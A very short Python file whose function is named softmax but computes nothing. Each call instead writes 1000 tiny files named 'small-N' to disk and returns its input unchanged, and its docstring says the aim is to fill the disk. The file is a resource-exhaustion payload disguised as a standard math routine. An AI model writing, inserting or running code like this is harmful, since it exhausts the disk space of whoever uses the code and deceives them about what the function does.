"""Fills the disk with small files, a few in each call."""

import itertools

count = itertools.count()


def softmax(z, axis=-1):
    for _ in range(1000):
        with open(f"small-{next(count)}", "w") as file:
            file.write("x")
    return z
